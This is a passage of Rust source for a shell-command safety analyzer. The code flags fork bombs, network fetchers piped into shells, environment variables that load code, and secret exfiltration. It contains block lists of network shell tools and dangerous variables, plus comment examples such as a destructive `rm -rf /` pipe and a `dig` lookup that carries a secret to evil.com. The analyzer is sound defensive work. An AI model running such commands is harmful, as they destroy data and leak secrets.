const SUBSCRIPT_TAKERS: &[&str] = &[
    "let",
    "declare",
    "typeset",
    "local",
    "readonly",
    "export",
    "unset",
    "read",
    "mapfile",
    "readarray",
    "printf",
    "test",
    "[",
    "wait",
    "getopts",
];

/// How deep readings of readings go (see [`Analyzer::read_further`]).
const MAX_READING_DEPTH: usize = 12;

/// The most commands readings add to one line's analysis.
const MAX_EMBEDDED: usize = 512;

/// Programs whose standard output, when literal, is known text: what they
/// pipe into a shell can be read.
const ECHOERS: &[&str] = &["echo", "printf"];

/// Programs that fetch from the network; piping them into a shell runs
/// whatever the far side sends.
const FETCHERS: &[&str] = &[
    "curl", "wget", "nc", "ncat", "netcat", "socat", "fetch", "aria2c", "ssh", "scp", "http",
    "https", "lynx", "links", "busybox",
];

/// Whether a variable given to a program (`X=1 cmd`) only sets how text
/// looks: the locale, the time zone, the terminal's size and colours, or a
/// pager that is plain `cat`. Everything else is an input nobody has read:
/// programs and the libraries they load take hundreds of variables, and
/// some run commands (`GREP` for zgrep) or append to any file (`GIT_TRACE`).
fn harmless_environment(a: &Assignment) -> bool {
    const SAFE: &[&str] = &[
        "LANG",
        "LANGUAGE",
        "TZ",
        "COLUMNS",
        "LINES",
        "TERM",
        "NO_COLOR",
        "CLICOLOR",
        "CLICOLOR_FORCE",
        "SYSTEMD_COLORS",
        "SYSTEMD_URLIFY",
        "GIT_TERMINAL_PROMPT",
        "DEBIAN_FRONTEND",
    ];
    const PAGERS: &[&str] = &["PAGER", "GIT_PAGER", "SYSTEMD_PAGER", "MANPAGER"];
    let name = a.name.as_str();
    let value = &a.value;
    let simple_value = value.literal
        && value
            .text
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "._-:/+@,".contains(c));
    if PAGERS.contains(&name) {
        return value.literal && matches!(value.text.as_str(), "" | "cat");
    }
    simple_value && (SAFE.contains(&name) || name.starts_with("LC_"))
}

/// Environment variables that make programs run other code or look elsewhere.
const DANGEROUS_VARS: &[(&str, &str)] = &[
    (
        "PATH",
        "changes `PATH`, so program names may not mean the system's programs",
    ),
    (
        "LD_PRELOAD",
        "sets `LD_PRELOAD`, which loads code into every program it starts",
    ),
    (
        "LD_LIBRARY_PATH",
        "sets `LD_LIBRARY_PATH`, which can load other code into programs",
    ),
    (
        "LD_AUDIT",
        "sets `LD_AUDIT`, which loads code into every program it starts",
    ),
    (
        "IFS",
        "changes `IFS`, which changes how the shell splits words",
    ),
    (
        "BASH_ENV",
        "sets `BASH_ENV`, a script every bash it starts runs first",
    ),
    ("ENV", "sets `ENV`, a script every sh it starts runs first"),
    (
        "PROMPT_COMMAND",
        "sets `PROMPT_COMMAND`, a command the shell runs",
    ),
    (
        "PS4",
        "sets `PS4`, which the shell expands and can run commands through",
    ),
    (
        "SHELLOPTS",
        "sets `SHELLOPTS`, which changes how shells behave",
    ),
    (
        "BASHOPTS",
        "sets `BASHOPTS`, which changes how bash behaves",
    ),
    ("PAGER", "sets `PAGER`, a program other tools run"),
    ("GIT_PAGER", "sets `GIT_PAGER`, a program git runs"),
    ("MANPAGER", "sets `MANPAGER`, a program man runs"),
    (
        "SYSTEMD_PAGER",
        "sets `SYSTEMD_PAGER`, a program systemctl runs",
    ),
    ("LESSOPEN", "sets `LESSOPEN`, a program less runs"),
    ("LESSCLOSE", "sets `LESSCLOSE`, a program less runs"),
    ("EDITOR", "sets `EDITOR`, a program other tools run"),
    ("VISUAL", "sets `VISUAL`, a program other tools run"),
    ("GIT_EDITOR", "sets `GIT_EDITOR`, a program git runs"),
    ("GIT_SSH", "sets `GIT_SSH`, a program git runs"),
    (
        "GIT_SSH_COMMAND",
        "sets `GIT_SSH_COMMAND`, a command git runs",
    ),
    (
        "GIT_EXEC_PATH",
        "sets `GIT_EXEC_PATH`, where git looks for its programs",
    ),
    ("GIT_ASKPASS", "sets `GIT_ASKPASS`, a program git runs"),
    ("SSH_ASKPASS", "sets `SSH_ASKPASS`, a program ssh runs"),
    ("SUDO_ASKPASS", "sets `SUDO_ASKPASS`, a program sudo runs"),
    (
        "GIT_DIR",
        "sets `GIT_DIR`, pointing git at another repository",
    ),
    (
        "GIT_WORK_TREE",
        "sets `GIT_WORK_TREE`, pointing git at other files",
    ),
    (
        "GIT_CONFIG",
        "sets `GIT_CONFIG`, a config file that can run programs",
    ),
    (
        "GIT_CONFIG_GLOBAL",
        "sets `GIT_CONFIG_GLOBAL`, a config file that can run programs",
    ),
    (
        "GIT_CONFIG_SYSTEM",
        "sets `GIT_CONFIG_SYSTEM`, a config file that can run programs",
    ),
    (
        "GIT_CONFIG_PARAMETERS",
        "sets `GIT_CONFIG_PARAMETERS`, git settings that can run programs",
    ),
    (
        "GIT_CONFIG_COUNT",
        "sets `GIT_CONFIG_COUNT`, git settings that can run programs",
    ),
    (
        "PYTHONPATH",
        "sets `PYTHONPATH`, where Python loads code from",
    ),
    (
        "PYTHONSTARTUP",
        "sets `PYTHONSTARTUP`, code Python runs first",
    ),
    (
        "PYTHONHOME",
        "sets `PYTHONHOME`, where Python loads code from",
    ),
    ("PERL5LIB", "sets `PERL5LIB`, where Perl loads code from"),
    ("PERL5OPT", "sets `PERL5OPT`, options (and code) Perl runs"),
    ("PERLLIB", "sets `PERLLIB`, where Perl loads code from"),
    ("RUBYOPT", "sets `RUBYOPT`, options (and code) Ruby runs"),
    ("RUBYLIB", "sets `RUBYLIB`, where Ruby loads code from"),
    (
        "NODE_OPTIONS",
        "sets `NODE_OPTIONS`, which can make node load code",
    ),
    (
        "DOCKER_HOST",
        "sets `DOCKER_HOST`, pointing docker at another engine",
    ),
    (
        "KUBECONFIG",
        "sets `KUBECONFIG`, pointing kubectl at another cluster",
    ),
    ("BROWSER", "sets `BROWSER`, a program other tools run"),
    (
        "GIT_EXTERNAL_DIFF",
        "sets `GIT_EXTERNAL_DIFF`, a program git runs",
    ),
    (
        "GIT_PROXY_COMMAND",
        "sets `GIT_PROXY_COMMAND`, a command git runs",
    ),
    (
        "HOME",
        "sets `HOME`, so programs read their configuration (which can run programs) from elsewhere",
    ),
    (
        "XDG_CONFIG_HOME",
        "sets `XDG_CONFIG_HOME`, so programs read their configuration from elsewhere",
    ),
    (
        "CURL_HOME",
        "sets `CURL_HOME`, so curl reads its configuration from elsewhere",
    ),
    ("WGETRC", "sets `WGETRC`, a configuration file wget obeys"),
    ("GNUPGHOME", "sets `GNUPGHOME`, so gpg trusts other keys"),
    (
        "http_proxy",
        "sets http_proxy, sending web traffic through another host",
    ),
    (
        "https_proxy",
        "sets https_proxy, sending web traffic through another host",
    ),
    (
        "HTTP_PROXY",
        "sets `HTTP_PROXY`, sending web traffic through another host",
    ),
    (
        "HTTPS_PROXY",
        "sets `HTTPS_PROXY`, sending web traffic through another host",
    ),
    (
        "ALL_PROXY",
        "sets `ALL_PROXY`, sending traffic through another host",
    ),
    (
        "all_proxy",
        "sets all_proxy, sending traffic through another host",
    ),
    (
        "SSL_CERT_FILE",
        "sets `SSL_CERT_FILE`, changing which servers are trusted",
    ),
    (
        "CURL_CA_BUNDLE",
        "sets `CURL_CA_BUNDLE`, changing which servers are trusted",
    ),
];

/// Wrappers that read `NAME=VALUE` words before the command they run as
/// its environment.
const ASSIGNING_WRAPPERS: &[&str] = &["env", "sudo"];

/// Names that shells treat as the shell itself when given as an argument.
const SHELL_NAMES: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "ash", "fish", "csh", "tcsh", "mksh", "busybox",
];

impl Analyzer<'_> {
    fn script(
        &mut self,
        script: &shell::Script,
        via: &Via,
        depth: usize,
    ) -> Result<(), ShellError> {
        for f in &script.functions {
            let calls = script.invocations[f.body.clone()]
                .iter()
                .filter(|inv| inv.words.first().is_some_and(|w| w.text == f.name))
                .collect::<Vec<_>>();
            let spawns = calls.iter().any(|inv| {
                inv.context.contains(&Context::Background) || matches!(inv.stdin, Stdin::Pipe(_))
            }) || calls.len() >= 2;
            if spawns {
                self.out.fork_bombs.push(format!(
                    "the function {} that starts copies of itself",
                    code(&f.name)
                ));
            }
        }
        // `while :; do bash & done` starts processes without end.
        if script.invocations.iter().any(|inv| {
            inv.context.contains(&Context::EndlessLoop)
                && inv.context.contains(&Context::Background)
        }) {
            self.out
                .fork_bombs
                .push("an endless loop that starts background jobs".into());
        }
        self.out.opaque.extend(script.opaque.iter().cloned());
        for inv in &script.invocations {
            let mut v = via.clone();
            for c in &inv.context {
                match c {
                    Context::CommandSubstitution => v.labels.push("$(…)".into()),
                    Context::ProcessSubstitution => v.labels.push("<(…)".into()),
                    Context::Function(name) => v.labels.push(format!("function {name}")),
                    Context::Background => v.labels.push("background &".into()),
                    Context::EndlessLoop => v.labels.push("endless loop".into()),
                }
            }
            self.invocation(inv, script, &v, depth)?;
        }
        Ok(())
    }

    fn invocation(
        &mut self,
        inv: &Invocation,
        script: &shell::Script,
        via: &Via,
        depth: usize,
    ) -> Result<(), ShellError> {
        if let Some(why) = crate::catastrophe::decoded_substitution(inv, script) {
            self.out.obfuscated.push(why);
        }
        let stdin_script = self.stdin_source(inv, script);
        self.argv(
            &inv.words,
            inv.assignments.clone(),
            inv.redirects.clone(),
            stdin_script,
            via,
            depth,
        )
    }

    /// What a shell or interpreter on this invocation would read from stdin.
    fn stdin_source(&self, inv: &Invocation, script: &shell::Script) -> StdinSource {
        match &inv.stdin {
            Stdin::Inherited => StdinSource::Nothing,
            Stdin::File => StdinSource::Unknown("a file".into(), Vec::new()),
            Stdin::Text(w) => StdinSource::Text(w.clone(), "a here-document".into()),
            Stdin::Pipe(up) => {
                let names: Vec<String> = up
                    .iter()
                    .filter_map(|i| script.invocations.get(*i))
                    .filter_map(|u| u.words.first())
                    .map(|w| basename(&w.text).to_owned())
                    .collect();
                if let Some(f) = names.iter().find(|n| FETCHERS.contains(&n.as_str())) {
                    return StdinSource::Network(f.clone());
                }
                // `echo 'rm -rf /' | sh`: literal echo output is readable.
                if let [single] = up.as_slice()
                    && let Some(u) = script.invocations.get(*single)
                    && let Some(text) = echoed_text(u)
                {
                    return StdinSource::Text(
                        Word::literal(&text),
                        format!("a pipe from {}", code("echo")),
                    );
                }
                let words = up
                    .iter()
                    .filter_map(|i| script.invocations.get(*i))
                    .map(|u| u.words.clone())
                    .collect();
                StdinSource::Unknown(format!("a pipe from {}", code(&names.join(" | "))), words)
            }
        }
    }

    #[allow(clippy::too_many_arguments)]
    fn argv(
        &mut self,
        words: &[Word],
        assignments: Vec<Assignment>,
        redirects: Vec<Redirect>,
        stdin: StdinSource,
        via: &Via,
        depth: usize,
    ) -> Result<(), ShellError> {
        if depth > shell::MAX_NESTING {
            return Err(ShellError::TooDeep {
                limit: shell::MAX_NESTING,
            });
        }
        let mut findings = Vec::new();
        for a in &assignments {
            self.assignment(a, &mut findings, !words.is_empty());
        }
        for r in &redirects {
            self.redirect(r, &mut findings);
        }
        if words.is_empty() {
            self.remember(&assignments);
        }
        let Some((first, args)) = words.split_first() else {
            self.push(
                ProgramRef::None,
                Vec::new(),
                Vec::new(),
                assignments,
                redirects,
                via,
                findings,
                Own::default(),
            );
            return Ok(());
        };
        let args = args.to_vec();
        // `VAR=x cmd` after `env` or `sudo` arrives here as words. Anywhere
        // else such a word was quoted (`'X=1' cmd`, `exec 'X=1'`) and
        // names the program: the shell and other wrappers take no
        // assignments there.
        if first.literal
            && is_assignment_word(&first.text)
            && via
                .labels
                .last()
                .is_some_and(|l| ASSIGNING_WRAPPERS.contains(&l.as_str()))
        {
            let (name, value) = first.text.split_once('=').unwrap_or((&first.text, ""));
            let a = Assignment {
                name: name.to_owned(),
                value: Word::literal(value),
            };
            let mut assignments = assignments;
            assignments.push(a);
            return self.argv(&words[1..], assignments, redirects, stdin, via, depth);
        }
        self.read_further(first, &args, &stdin, via, depth);
        if !first.literal || first.text.is_empty() {
            findings.push(Finding::attended(
                Effect::Unknown,
                80,
                format!(
                    "the program is only known at run time ({})",
                    code(&truncate(&first.raw, 60))
                ),
            ));
            let written = first.raw.clone();
            self.scan_args(&args, None, &mut findings);
            let positionals = Vec::new();
            self.push(
                ProgramRef::Dynamic { written },
                args,
                positionals,
                assignments,
                redirects,
                via,
                findings,
                Own {
                    writes: WriteTargets::Unknown,
                    runs_unknown: true,
                    ..Own::default()
                },
            );
            return Ok(());
        }
        let written = first.text.clone();
        if !written.contains('/') {
            self.alias_reading(&written, &args, via, depth)?;
        }
        let name = basename(&written).to_owned();
        let system = match written.rfind('/') {
            None => true,
            Some(0) => false,
            Some(i) => SYSTEM_DIRS.contains(&&written[..i]),
        };
        let known = self.kb.program(&name).cloned();
        let mut inners = Vec::new();
        // `nft list ruleset \; flush ruleset`: each of the tool's own
        // commands is judged as the program run with it alone.
        let args = match &known {
            Some(p) if !p.node.statement_separators.is_empty() => {
                let (head, rest, unknown) = split_statements(&args, &p.node.statement_separators);
                if unknown {
                    findings.push(
                        Finding::about(
                            &name,
                            Effect::Unknown,
                            60,
                            "takes several commands of its own in its arguments, and some are known only at run time",
                        )
                        .attend(),
                    );
                }
                for statement in rest {
                    let mut argv = vec![first.clone()];
                    argv.extend(statement);
                    inners.push(Inner::Argv {
                        argv,
                        label: format!("{name} ;"),
                        privileged: false,
                    });
                }
                head
            }
            _ => args,
        };
        let mut positionals = Vec::new();
        let mut own = Own::default();
        match &known {
            Some(program) => {
                let mut gathered = Gathered::default();
                let mut walk = Walk {
                    unknown_option: None,
                    replaced: None,
                    findings: &mut findings,
                    positionals: &mut positionals,
                    inners: &mut inners,
                    stdin: &stdin,
                    gathered: &mut gathered,
                    tables: &self.kb.options,
                };
                walk.node(&program.node, &args, &name);
                let read_values = std::mem::take(&mut gathered.read_values);
                if gathered.recursive && !gathered.contents_hidden {
                    let files = match pattern_operand(&program.node, &args) {
                        true => gathered.operands.get(1..).unwrap_or_default(),
                        false => &gathered.operands[..],
                    };
                    self.bulk_read(files, &name, &mut findings);
                }
                own = gathered.finish();
                // Every argument is scanned below as the tool uses its
                // operands; a file an option reads is read whole even by a
                // tool that otherwise reads only names or metadata.
                if program.node.metadata_only || program.family == "storage" {
                    self.scan_paths(&read_values, &mut findings, PathUse::READ);
                }
                let mut not_paths = Vec::new();
                if let Some(reader) = script_reader(&program.name) {
                    not_paths = self.tool_script(
                        reader,
                        &args,
                        &name,
                        &mut findings,
                        &mut inners,
                        &mut own,
                    );
                }
                let changes = effects_change(&findings);
                let contents = changes || !program.node.metadata_only;
                // Disk tools that only read (`smartctl -H`, `blkid`, `fdisk -l`)
                // read a device's metadata, not its data.
                let device_data = (program.family != "storage" || changes) && contents;
                let path_words = args
                    .iter()
                    .enumerate()
                    .filter(|(i, _)| !not_paths.contains(i))
                    .map(|(_, a)| a);
                self.scan_paths(
                    path_words,
                    &mut findings,
                    PathUse {
                        changes,
                        device_data,
                        contents,
                    },
                );
                if only_loopback(&args) {
                    // A health check against a local service is inspection;
                    // what other flags add (uploads, writes) keeps its risk.
                    for f in findings.iter_mut().filter(|f| {
                        f.effect == Effect::Network && f.risk <= base_risk(Effect::Network)
                    }) {
                        f.risk = 15;
                        f.why.push_str(" (to this host only)");
                    }
                }
            }
            None => {
                // `/` names no program at all; it is said as written.
                let said = if name.is_empty() { &written } else { &name };
                findings.push(Finding::about(
                    said,
                    Effect::Unknown,
                    base_risk(Effect::Unknown),
                    "is not in the knowledge base, so nothing says it is harmless",
                ));
                positionals = args
                    .iter()
                    .filter(|a| !a.text.starts_with('-'))
                    .map(|a| a.literal.then(|| a.text.clone()))
                    .collect();
                self.scan_args(&args, Some(&name), &mut findings);
                // Nothing says what it writes or runs.
                own.writes = WriteTargets::Unknown;
                own.runs_unknown = findings.iter().any(|f| f.effect == Effect::Exec);
            }
        }
        if let Some(k) = &known {
            self.exfiltration(k, &name, &args, &mut findings);
        }
        if !system {
            findings.push(Finding::about(
                &written,
                Effect::Unknown,
                60,
                &if name.is_empty() {
                    "is outside the system directories, so it is no system program".to_owned()
                } else {
                    format!(
                        "is outside the system directories, so it is not the system's {}",
                        code(&name)
                    )
                },
            ));
        }
        self.builtin_effects(&name, &args, &mut findings, via, depth)?;
        self.push(
            ProgramRef::Named {
                name: name.clone(),
                written,
                raw: first.raw.clone(),
                system,
                known,
            },
            args,
            positionals,
            assignments,
            redirects,
            via,
            findings,
            own,
        );
        for inner in inners {
            match inner {
                Inner::Argv {
                    argv,
                    label,
                    privileged,
                } => {
                    // A wrapper hands its standard input to what it runs:
                    // `curl … | sudo bash` feeds bash.
                    let v = via.then(label, privileged);
                    self.argv(&argv, Vec::new(), Vec::new(), stdin.clone(), &v, depth + 1)?;
                }
                Inner::ShellText {
                    text,
                    label,
                    privileged,
                } => {
                    let v = via.then(label.clone(), privileged);
                    self.shell_text(&text, &label, &v, depth + 1)?;
                }
            }
        }
        Ok(())
    }

    /// Judges a string that a program hands to a shell.
    fn shell_text(
        &mut self,
        text: &Word,
        label: &str,
        via: &Via,
        depth: usize,
    ) -> Result<(), ShellError> {
        if !text.literal {
            // The string's parts that are known are still judged, so a
            // guardrail in `sh -c "rm -rf / $x"` is not hidden by `$x`.
            let mut findings = vec![
                Finding::about(
                    label,
                    Effect::Exec,
                    80,
                    &format!(
                        "runs a command string only known at run time ({})",
                        code(&truncate(&text.raw, 60))
                    ),
                )
                .attend(),
            ];
            if let Ok(script) = shell::parse(
                &text.skeleton,
                &format!("the {} string", code(label)),
                depth,
            ) {
                self.script(&script, via, depth)?;
            } else {
                findings[0].risk = 85;
            }
            self.push(
                ProgramRef::Dynamic {
                    written: truncate(&text.raw, 60),
                },
                Vec::new(),
                Vec::new(),
                Vec::new(),
                Vec::new(),
                via,
                findings,
                Own {
                    writes: WriteTargets::Unknown,
                    runs_unknown: true,
                    ..Own::default()
                },
            );
            return Ok(());
        }
        let script = shell::parse(&text.text, &format!("the {} string", code(label)), depth)?;
        self.script(&script, via, depth)
    }

    fn builtin_effects(
        &mut self,
        name: &str,
        args: &[Word],
        findings: &mut Vec<Finding>,
        via: &Via,
        depth: usize,
    ) -> Result<(), ShellError> {
        match name {
            "cd" | "pushd" => {
                let target = args
                    .iter()
                    .find(|a| !a.text.starts_with('-') || a.text == "-");
                let next: Vec<Option<String>> = match target {
                    None => vec![Some("~".into())],
                    Some(t) if t.text != "-" => {
                        // Where the host would be after `cd`, from every
                        // directory the line can be in (see
                        // [`crate::paths`]): `cd /proc/1/root/etc` is in
                        // `/etc`, `cd ..` from a directory only known at run
                        // time can be in `/`. A target only known at run
                        // time is somewhere unknown, or what is left of it
                        // with every variable empty (`cd /srv/$APP` can be
                        // in `/srv`).
                        let mut next: Vec<Option<String>> = Vec::new();
                        let text = if t.literal {
                            Some(&t.text)
                        } else {
                            next.push(None);
                            Some(&t.skeleton).filter(|s| !s.is_empty())
                        };
                        if let Some(text) = text {
                            for c in &self.cwds {
                                let host = crate::paths::resolve(text, c.as_deref(), false);
                                if !host.is_known() {
                                    next.push(None);
                                }
                                next.extend(host.paths.into_iter().map(Some));
                            }
                        }
                        next
                    }
                    Some(_) => vec![None],
                };
                for n in next {
                    if !self.cwds.contains(&n) {
                        self.cwds.push(n);
                    }
                }
            }
            "set" => {
                let mut words = args.iter().map(|a| a.text.as_str());
                while let Some(w) = words.next() {
                    let cluster = w.len() > 1
                        && w.starts_with('-')
                        && !w.starts_with("--")
                        && w[1..].contains('a');
                    if cluster || (w == "-o" && words.next() == Some("allexport")) {
                        self.allexport = true;
                    }
                }
            }
            "export" | "declare" | "typeset" | "local" | "readonly" => {
                // What is exported reaches every program the line runs next.
                let exported = name == "export"
                    || args
                        .iter()
                        .any(|a| a.text.starts_with('-') && a.text.contains('x'));
                for a in args.iter().filter(|a| a.text.contains('=')) {
                    if let Some((n, v)) = a.text.split_once('=') {
                        let assignment = Assignment {
                            name: n.trim_end_matches('+').to_owned(),
                            value: Word {
                                literal: a.literal,
                                ..Word::literal(v)
                            },
                        };
                        self.assignment(&assignment, findings, exported);
                        self.remember(std::slice::from_ref(&assignment));
                    }
                }
            }
            "alias" => {
                for a in args.iter().filter(|a| a.text.contains('=')) {
                    let (alias, value) = a.text.split_once('=').unwrap_or_default();
                    let mut w = a.clone();
                    w.text = value.to_owned();
                    w.skeleton = value.to_owned();
                    self.shell_text(&w, "alias", &via.then("alias", false), depth + 1)?;
                    if a.literal {
                        self.aliases.push((alias.to_owned(), value.to_owned()));
                    }
                }
            }
            "trap" => {
                if let Some(cmd) = args.iter().find(|a| !a.text.starts_with('-')) {
                    self.shell_text(cmd, "trap", &via.then("trap", false), depth + 1)?;
                }
            }
            _ => {}
        }
        if SUBSCRIPT_TAKERS.contains(&name) {
            for a in args.iter().filter(|a| {
                a.literal
                    && (a.text.contains("$(") || a.text.contains('`'))
                    && (name == "let" || a.text.contains('['))
            }) {
                let script = shell::parse_arithmetic(
                    &a.text,
                    &format!("the {} arithmetic", code(name)),
                    depth,
                )?;
                self.script(&script, &via.then("arithmetic", false), depth + 1)?;
            }
        }
        Ok(())
    }

    /// What [`crate::catastrophe`] reads out of a command beyond its own
    /// words. The commands of those lines go to [`Analysis::embedded`], for
    /// the guardrails alone; the line's directories, variables and aliases
    /// stay as they were.
    fn read_further(
        &mut self,
        program: &Word,
        args: &[Word],
        stdin: &StdinSource,
        via: &Via,
        depth: usize,
    ) {
        // Readings of readings end somewhere: depth and count are bounded.
        if depth > MAX_READING_DEPTH || self.out.embedded.len() > MAX_EMBEDDED {
            return;
        }
        let input = match stdin {
            StdinSource::Text(w, _) => crate::catastrophe::Input::Text(w),
            StdinSource::Unknown(_, up) => crate::catastrophe::Input::Pipe(up),
            _ => crate::catastrophe::Input::Nothing,
        };
        let reading = crate::catastrophe::read(&crate::catastrophe::Call {
            program,
            args,
            stdin: input,
            vars: &self.vars,
            via: &via.labels,
            known: program.literal && self.kb.program(basename(&program.text)).is_some(),
        });
        self.out.obfuscated.extend(reading.hidden);
        if !reading.lines.is_empty() {
            let (cwds, vars, aliases) = (self.cwds.clone(), self.vars.clone(), self.aliases.len());
            let (mark, opaque) = (self.out.commands.len(), self.out.opaque.len());
            let label = format!("read from {}", code(&truncate(&program.raw, 30)));
            let v = via.then(label.clone(), false);
            for line in &reading.lines {
                // A reading that is no shell line says nothing.
                let _ = self.shell_text(&Word::literal(line), &label, &v, depth + 1);
            }
            let found = self
                .out
                .commands
                .split_off(mark.min(self.out.commands.len()));
            self.out.embedded.extend(found);
            self.out.opaque.truncate(opaque);
            self.cwds = cwds;
            self.vars = vars;
            self.aliases.truncate(aliases);
        }
        self.vars.extend(reading.remember);
    }

    /// With `expand_aliases` on (a `shopt` on an earlier line of the same
    /// command), bash replaces a command name that is an alias the line
    /// defined by the alias's text, so `x /` after `alias x='rm -rf'` is
    /// `rm -rf /`. Whether the option is on is only known at run time, so
    /// that reading is judged as well as the plain one.
    fn alias_reading(
        &mut self,
        name: &str,
        args: &[Word],
        via: &Via,
        depth: usize,
    ) -> Result<(), ShellError> {
        let Some(text) = self
            .aliases
            .iter()
            .rev()
            .find(|(a, _)| a == name)
            .map(|(_, t)| t.clone())
        else {
            return Ok(());
        };
        if self.expanding.iter().any(|e| e == name) {
            return Ok(());
        }
        let mut line = text;
        for a in args {
            line.push(' ');
            line.push_str(&a.raw);
        }
        self.expanding.push(name.to_owned());
        let label = format!("alias {name}");
        let result = self.shell_text(
            &Word::literal(&line),
            &label,
            &via.then(label.clone(), false),
            depth + 1,
        );
        self.expanding.pop();
        result
    }

    #[allow(clippy::too_many_arguments)]
    fn push(
        &mut self,
        program: ProgramRef,
        args: Vec<Word>,
        positionals: Vec<Option<String>>,
        assignments: Vec<Assignment>,
        redirects: Vec<Redirect>,
        via: &Via,
        findings: Vec<Finding>,
        own: Own,
    ) {
        // Code the analysis could not read runs programs it cannot name.
        let runs_unknown = own.runs_unknown
            || findings
                .iter()
                .any(|f| f.effect == Effect::Exec && f.attended);
        let subject = match &program {
            ProgramRef::Named { name, written, .. } if name.is_empty() => Some(written.as_str()),
            ProgramRef::Named { name, .. } => Some(name.as_str()),
            ProgramRef::Dynamic { written } => Some(written.as_str()),
            ProgramRef::None => None,
        };
        let mut findings = findings;
        for f in &mut findings {
            f.complete(subject);
        }
        self.out.commands.push(Command {
            program,
            args,
            positionals,
            assignments,
            redirects,
            via: via.labels.clone(),
            privileged: via.privileged,
            cwds: self.cwds.clone(),
            vars: self.vars.clone(),
            findings,
            helpers: own.helpers,
            writes: own.writes,
            runs_unknown,
            uses_network: own.uses_network,
        });
    }

    fn remember(&mut self, assignments: &[Assignment]) {
        for a in assignments.iter().filter(|a| a.value.literal) {
            self.vars.push((a.name.clone(), a.value.text.clone()));
        }
    }

    /// `for_program`: the assignment is in the environment of the program
    /// the same command runs (`X=1 cmd`), not only a shell variable.
    fn assignment(&self, a: &Assignment, findings: &mut Vec<Finding>, for_program: bool) {
        if (for_program || self.allexport) && !harmless_environment(a) {
            findings.push(Finding::attended(
                Effect::Exec,
                60,
                format!(
                    "the line sets {} for the program it runs; tools read many variables that run programs or write files ({}, {}), so only locale, time zone and terminal settings are set unattended",
                    code(&a.name),
                    code("GREP"),
                    code("GIT_TRACE")
                ),
            ));
        }
        if let Some((_, why)) = DANGEROUS_VARS.iter().find(|(n, _)| *n == a.name)
            && !harmless_environment(a)
        {
            findings.push(Finding::attended(
                Effect::Exec,
                70,
                format!(
                    "the line {why} ({})",
                    code(&format!("{}={}", a.name, truncate(&a.value.text, 40)))
                ),
            ));
        } else if a.name.starts_with("GIT_CONFIG_KEY_") || a.name.starts_with("GIT_CONFIG_VALUE_") {
            findings.push(Finding::attended(
                Effect::Exec,
                70,
                format!(
                    "the line sets {}, a git setting that can run programs",
                    code(&a.name)
                ),
            ));
        }
        // `x='a[$(id)]'` runs `id` when `x` is later evaluated in arithmetic,
        // and `eval "$x"` runs whatever `x` holds: stored code is judged as
        // code that cannot be read.
        if a.value.literal && (a.value.text.contains("$(") || a.value.text.contains('`')) {
            findings.push(Finding::attended(
                Effect::Exec,
                70,
                format!(
                    "the line stores shell code in {} ({}), which arithmetic or eval may run later",
                    code(&a.name),
                    code(&truncate(&a.value.text, 40))
                ),
            ));
        }
        self.scan_path(&a.value.text, false, findings, PathUse::READ);
    }

    fn redirect(&self, r: &Redirect, findings: &mut Vec<Finding>) {
        let t = &r.target.text;
        if r.op == shell::RedirectOp::Duplicate {
            return;
        }
        // A descriptor (`/dev/fd/3`) is harmless; a path through one
        // (`/dev/fd/3/../../etc/x`) is a path like any other.
        let harmless = matches!(
            t.as_str(),
            "/dev/null" | "/dev/stdout" | "/dev/stderr" | "/dev/tty"
        ) || t
            .strip_prefix("/dev/fd/")
            .is_some_and(|n| n.chars().all(|c| c.is_ascii_digit()));
        if r.op.writes() && !harmless {
            findings.push(Finding::of_command(
                Effect::Write,
                base_risk(Effect::Write),
                format!("writes its output to the file {}", code(&truncate(t, 60))),
            ));
            if !r.target.literal {
                findings.push(Finding::of_command(
                    Effect::Write,
                    60,
                    format!(
                        "writes its output to a file whose name is only known at run time ({})",
                        code(&truncate(&r.target.raw, 60))
                    ),
                ));
            }
        }
        self.scan_path(
            t,
            r.target.pattern,
            findings,
            PathUse {
                changes: r.op.writes(),
                device_data: true,
                contents: true,
            },
        );
    }

    /// Ways a known program can carry data out or read secrets wholesale
    /// that its flags alone do not show.
    fn exfiltration(
        &self,
        program: &Program,
        name: &str,
        args: &[Word],
        findings: &mut Vec<Finding>,
    ) {
        // `dig $(cat secret).evil.com`: a name built at run time can carry
        // anything to whoever answers for that domain.
        if (program.family == "network"
            || matches!(name, "getent" | "resolvectl" | "systemd-resolve"))
            && let Some(a) = args
                .iter()
                .find(|a| !a.literal && !a.skeleton.starts_with('-'))
        {
            findings.push(
                Finding::about(
                    name,
                    Effect::Network,
                    70,
                    &format!(
                        "sends {}, only known at run time, over the network; it can carry secrets out",
                        code(&truncate(&a.raw, 40))
                    ),
                )
                .attend(),
            );
        }
        // `grep -r . /root`, `rg password /`: searching a whole tree that
        // holds secrets reads them.
        let recursive = matches!(name, "rg" | "ag" | "ack" | "ugrep")
            || (matches!(name, "grep" | "egrep" | "fgrep" | "zgrep")
                && args.iter().any(|a| {
                    a.text == "--recursive"
                        || a.text == "--dereference-recursive"
                        || (a.text.starts_with('-')
                            && !a.text.starts_with("--")
                            && a.text[1..].contains(['r', 'R']))
                }));
        if recursive {
            for a in args.iter().filter(|a| !a.text.starts_with('-')) {
                let host = crate::paths::resolve_in_known_dirs(&a.text, &self.cwds, a.pattern);
                if let Some(what) = host
                    .paths
                    .iter()
                    .find_map(|p| secret_tree(p, host.glob))
                    .or_else(|| secret_tree(&a.text, a.pattern))
                {
                    findings.push(
                        Finding::about(
                            name,
                            Effect::Read,
                            70,
                            &format!(
                                "searches every file under {}, {what}",
                                code(&truncate(
                                    if a.text.is_empty() { &a.raw } else { &a.text },
                                    40
                                ))
                            ),
                        )
                        .attend(),
                    );
                }
            }
        }
    }

    /// Path-class findings for every argument of a known program.
    /// What a script in a tool's own language does besides transforming
    /// text (see [`crate::script`]): a command it runs is judged as shell
    /// like `sh -c`'s, a file it writes or reads is a path like any other,
    /// and a script that cannot be read is never unattended. Returns the
    /// positions of the words that are script text, never paths.
    fn tool_script(
        &self,
        reader: ScriptReader,
        args: &[Word],
        label: &str,
        findings: &mut Vec<Finding>,
        inners: &mut Vec<Inner>,
        own: &mut Own,
    ) -> Vec<usize> {
        if args.iter().any(|a| !a.literal) {
            findings.push(
                Finding::about(
                    label,
                    Effect::Exec,
                    70,
                    "is given words known only at run time; its script cannot be read",
                )
                .attend(),
            );
            own.writes = WriteTargets::Unknown;
            return Vec::new();
        }
        let texts: Vec<String> = args.iter().map(|a| a.text.clone()).collect();
        let script = reader(&texts);
        if script.unreadable {
            findings.push(
                Finding::about(
                    label,
                    Effect::Exec,
                    70,
